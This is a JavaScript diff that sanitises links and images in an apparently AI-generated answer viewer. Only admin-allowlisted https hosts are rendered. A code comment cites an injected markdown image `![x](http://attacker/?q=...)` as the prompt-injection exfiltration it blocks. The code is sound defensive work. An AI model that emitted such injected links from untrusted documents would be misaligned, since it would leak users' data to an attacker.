@@ -203,23 +203,76 @@
   }
 
   /** Text with its [n] markers as buttons that open source n. */
+  // Answers quote untrusted documents: a link or image is shown only for a host the admin
+  // allowed (answer_link_hosts, https); any other is reduced to its text, so an injected
+  // `![x](http://attacker/?q=...)` fetches nothing and shows no address (server/untrusted.py
+  // applies the same rule to the checked answer; this covers the raw streamed text).
+  const LINK_HOSTS = new Set((document.body.dataset.linkHosts || "").split(",").filter(Boolean));
+  const MD_LINK = /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s()<>]*)>?(?:\s+"[^"\n]*")?\s*\)/g;
+  const BARE_URL = /(?:\b[a-z][a-z0-9+.-]*:\/\/|\bwww\.|(?<=[=("'])\/\/)[^\s<>()[\]"']+/gi;
+  const LINK_REMOVED = "[link removed]";
+
+  function allowedUrl(url) {
+    try {
+      const parsed = new URL(url);
+      return parsed.protocol === "https:" && LINK_HOSTS.has(parsed.hostname);
+    } catch (_) { return false; }
+  }
+
+  /** Text and allowed links/images of an answer, in order (strings are plain text). */
+  function linkParts(text) {
+    const parts = [];
+    const bare = (chunk) => {
+      let last = 0;
+      for (const m of chunk.matchAll(BARE_URL)) {
+        parts.push(chunk.slice(last, m.index));
+        parts.push(allowedUrl(m[0])
+          ? el("a", {href: m[0], rel: "noopener noreferrer nofollow", target: "_blank", text: m[0]})
+          : LINK_REMOVED);
+        last = m.index + m[0].length;
+      }
+      parts.push(chunk.slice(last));
+    };
+    let last = 0;
+    for (const m of text.matchAll(MD_LINK)) {
+      bare(text.slice(last, m.index));
+      const [, image, rawLabel, target] = m;
+      const label = rawLabel.trim().replace(BARE_URL, LINK_REMOVED);
+      if (allowedUrl(target)) {
+        parts.push(image
+          ? el("img", {class: "answer-img", src: target, alt: label, referrerpolicy: "no-referrer"})
+          : el("a", {href: target, rel: "noopener noreferrer nofollow", target: "_blank", text: label || target}));
+      } else if (image) {
+        parts.push(label ? `[image: ${label}]` : "[image removed]");
+      } else {
+        parts.push(label || LINK_REMOVED);
+      }
+      last = m.index + m[0].length;
+    }
+    bare(text.slice(last));
+    return parts;
+  }
+
   function answerText(text, answer, message) {
     const node = el("div", {class: "answer-text"});
     const count = (answer.sources || []).length;
-    let last = 0;
-    for (const match of text.matchAll(CITATION)) {
-      const n = Number(match[1]);
-      if (n < 1 || n > count) continue;
-      node.append(text.slice(last, match.index));
-      const source = answer.sources[n - 1];
-      node.append(el("button", {
-        class: "cite", type: "button", text: String(n), dataset: {n},
-        "aria-label": `Source ${n}: ${source.title || fileName(source.path)}`,
-        onclick: (event) => openSource(message, n, event.currentTarget),
-      }));
-      last = match.index + match[0].length;
+    for (const part of linkParts(text)) {
+      if (typeof part !== "string") { node.append(part); continue; }
+      let last = 0;
+      for (const match of part.matchAll(CITATION)) {
+        const n = Number(match[1]);
+        if (n < 1 || n > count) continue;
+        node.append(part.slice(last, match.index));
+        const source = answer.sources[n - 1];
+        node.append(el("button", {
+          class: "cite", type: "button", text: String(n), dataset: {n},
+          "aria-label": `Source ${n}: ${source.title || fileName(source.path)}`,
+          onclick: (event) => openSource(message, n, event.currentTarget),
+        }));
+        last = match.index + match[0].length;
+      }
+      node.append(part.slice(last));
     }
-    node.append(text.slice(last));
     return node;
   }
 
